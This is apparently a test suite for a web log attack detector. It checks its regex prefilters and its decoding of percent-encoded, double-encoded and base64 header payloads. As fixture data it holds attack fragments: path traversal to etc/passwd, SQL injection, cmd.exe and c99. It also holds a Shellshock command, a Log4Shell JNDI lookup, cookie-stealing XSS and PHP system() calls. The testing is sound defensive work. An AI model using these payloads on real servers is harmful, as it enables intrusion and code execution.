import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectAttacks } from '../../src/detections/requests/attacks.ts';
import { shapePrefilter, targetPrefilter } from '../../src/detections/requests/prefilter.ts';
import { isBlindToDigits, prepareRequests, routePattern } from '../../src/detections/requests/request.ts';
import { shapeOfWord } from '../../src/detections/sigma/literals.ts';
import { collapseNumbers, writeShape } from '../../src/events/request-keys.ts';
import { loadEvents, memoryEngine } from '../fixtures/event-table.ts';

const out = new Uint8Array(1 << 12);
const shape = (target: string): string => {
  const bytes = new TextEncoder().encode(target);
  return Buffer.from(out.subarray(0, writeShape(bytes, 0, bytes.length, out))).toString();
};
const route = (path: string): string => {
  const bytes = new TextEncoder().encode(path);
  return Buffer.from(out.subarray(0, collapseNumbers(bytes, 0, bytes.length, out))).toString();
};

/** Pieces of attacks and of everyday targets, so that patterns match often and by a hair. */
const pieces = [
  '0x2e',
  '..',
  '/',
  'etc/',
  'passwd',
  '%00',
  ' or ',
  '1=1',
  '=',
  'union',
  'ro0ab',
  'adw-',
  ':0x',
  'php5',
  'mp4',
  'woff2',
  '.ht',
  'cmd.exe',
  '7',
  'a1',
  'dead',
  'c99',
  '&id=',
  '?q=',
  'beef',
  '12',
  'AbC',
  '_',
  '.env',
  'oauth2',
  '/token',
  '-',
];
const target = fc.array(fc.constantFrom(...pieces), { maxLength: 12 }).map(list => `/${list.join('')}`.slice(0, 250));

describe('tests on routes and shapes let through all that the tests on texts do', () => {
  it('a shape matches wherever its target does', () => {
    const exact = new RegExp(targetPrefilter);
    const wide = new RegExp(shapePrefilter);
    fc.assert(
      fc.property(target, text => {
        if (exact.test(text.toLowerCase())) expect(wide.test(shape(text)), text).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  it('the shape of any part of a target is found in the target’s', () => {
    fc.assert(
      fc.property(target, fc.nat(250), fc.integer({ min: 1, max: 20 }), (text, from, length) => {
        const word = text.toLowerCase().slice(from % text.length, (from % text.length) + length);
        expect(new RegExp(shapeOfWord(word)).test(shape(text)), `${word} in ${text}`).toBe(true);
      }),
      { numRuns: 3000 },
    );
    expect(new RegExp(shapeOfWord('union')).test(shape('/search?q=1234'))).toBe(false);
  });

  it('a route matches wherever its path does', () => {
    const patterns = [
      String.raw`\.(?:css|woff2?|mp[34]|php\d?)$`,
      String.raw`(?:^|/)(?:[\w.-]*log[-_]?[io]n[\w.-]*|oauth2?/token)/?$`,
      String.raw`(?:^|/)admin\w*[^0-9](?:$|/)`,
    ];
    const path = fc
      .array(fc.constantFrom('/', '.', 'css', 'woff2', 'woff', 'mp4', 'mp3', 'php5', 'log-in', '7login2', 'oauth2', 'token', 'admin', '12', '-', 'x'), {
        maxLength: 8,
      })
      .map(l => l.join(''));
    fc.assert(
      fc.property(path, fc.constantFrom(...patterns), (text, pattern) => {
        if (new RegExp(pattern).test(text)) expect(new RegExp(routePattern(pattern)).test(route(text)), text).toBe(true);
      }),
      { numRuns: 3000 },
    );
    // What says nothing of digits matches neither more nor less there.
    const blind = String.raw`admin|(?:^|/)log-in(?:/|$)|\.(?:css|woffx?)$`;
    expect([...patterns, 'a.c', 'a+', '[a-z]'].filter(isBlindToDigits)).toEqual([]);
    expect(isBlindToDigits(blind)).toBe(true);
    fc.assert(
      fc.property(path, text => new RegExp(blind).test(text) === new RegExp(blind).test(route(text))),
      { numRuns: 1000 },
    );
  });
});

it('what a header hides by percent signs, twice over, as entities or in base64 is read; a harmless one is left alone', async () => {
  const engine = await memoryEngine();
  const twice = (text: string): string => encodeURIComponent(encodeURIComponent(text));
  const hidden: Readonly<Record<string, Record<string, string>>> = {
    'command-injection': { user_agent: encodeURIComponent('() { :; }; /bin/bash -c id') },
    template: { referer: `https://www.example.jp/${twice('${jndi:ldap://192.0.2.9/a}')}` },
    xss: { user_agent: Buffer.from('<script>alert(document.cookie)</script>').toString('base64') },
    'code-injection': { user_agent: twice("<?php system('id'); ?>") },
    deserialisation: { forwarded: encodeURIComponent('O:4:"User":1:{s:2:"id";i:1;}') },
  };
  const harmless = [
    { user_agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) 100% 値%20' },
    { referer: 'https://www.example.jp/%E6%A4%9C%E7%B4%A2?q=%E3%83%9A%E3%83%83%E3%83%88+100%25' },
    { user_agent: 'c29tZS1hcHAtdG9rZW4tMDEyMzQ1Njc4OQ==', forwarded: '192.0.2.1, 192.0.2.2%eth0' },
    { user_agent: '%E3%83' },
  ];
  const rows = [...Object.values(hidden), ...harmless].map((more, i) => ({
    src_ip: `198.51.100.${i}`,
    time_us: i * 1e6,
    target: '/',
    path: '/',
    method: 'GET',
    status: 200,
    ...more,
  }));
  await loadEvents(engine, rows);
  await prepareRequests(engine);
  const found = await detectAttacks(engine);
  expect(found.map(d => d.family).sort()).toEqual(Object.keys(hidden).sort());
  engine.close();
});
